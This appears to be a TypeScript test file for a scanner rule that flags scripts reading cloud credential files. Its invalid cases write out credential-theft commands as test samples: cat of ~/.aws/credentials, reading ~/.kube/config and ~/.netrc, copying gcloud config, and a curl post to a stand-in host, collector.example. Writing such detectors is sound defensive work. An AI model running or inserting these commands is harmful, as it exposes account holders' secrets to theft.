import { cloudCredentialRead } from '../../../src/scan/rules/cloud-credential-read.ts';
import { testRule } from '../rule-tester.ts';
import { py, sh } from './common/skills.ts';

testRule(cloudCredentialRead, {
  valid: [
    { name: 'uses the aws cli', files: sh('aws s3 ls s3://bucket-example') },
    { name: 'kubectl with the default config', files: sh('kubectl get pods -n default') },
    { name: 'reads a project config file', files: py("cfg = open('config/aws-regions.json').read()") },
  ],
  invalid: [
    { name: 'cat of aws credentials', files: sh('cat ~/.aws/credentials'), errors: [{ messageId: 'read' }] },
    { name: 'python reads the kube config', files: py("import os\nk = open(os.path.expanduser('~/.kube/config')).read()"), errors: [{ messageId: 'read' }] },
    { name: 'copies gcloud credentials', files: sh('cp -r ~/.config/gcloud /tmp/g'), errors: [{ messageId: 'read' }] },
    {
      name: 'reads .netrc and posts to an unknown host',
      files: { ...sh('cat ~/.netrc > /tmp/n'), ...sh('curl -d @/tmp/report.txt https://collector.example/r', 'scripts/send.sh') },
      errors: [{ messageId: 'readWithSend', severity: 'high' }],
    },
  ],
});
